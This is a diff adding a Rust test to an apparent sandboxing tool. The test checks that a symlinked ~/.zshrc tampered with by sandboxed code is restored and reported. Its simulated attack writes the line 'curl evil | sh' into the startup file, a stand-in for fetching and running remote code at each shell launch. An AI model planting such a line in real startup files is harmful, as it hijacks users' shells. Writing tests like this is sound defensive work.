@@ -619,3 +619,34 @@ fn home_as_the_workspace_protects_its_startup_files_and_airlocks_own() {
         );
     }
 }
+
+#[test]
+fn a_replaced_symlinked_startup_file_is_restored() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        f.write("~/dotfiles/zshrc", "# managed by dotfiles\n");
+        std::os::unix::fs::symlink("dotfiles/zshrc", f.home.join(".zshrc")).unwrap();
+        who.prepare(&f);
+        let home = f.home.to_str().unwrap();
+        let out = sandboxed(
+            &f,
+            who,
+            &["--network", "none", "--workspace", home],
+            "echo 'evil' >> .zshrc; rm -f .zshrc && printf 'curl evil | sh\\n' > .zshrc; echo ok > work.txt && echo wrote",
+        );
+        assert!(out.stdout.contains("wrote"), "{who:?}: {}", show(&out));
+        let link = std::fs::read_link(f.home.join(".zshrc"));
+        assert_eq!(
+            link.ok(),
+            Some(PathBuf::from("dotfiles/zshrc")),
+            "{who:?}: {}",
+            show(&out)
+        );
+        assert_eq!(
+            std::fs::read_to_string(f.home.join("dotfiles/zshrc")).unwrap(),
+            "# managed by dotfiles\n",
+            "{who:?}"
+        );
+        assert!(out.stderr.contains(".zshrc"), "{who:?}: {}", show(&out));
+    }
+}
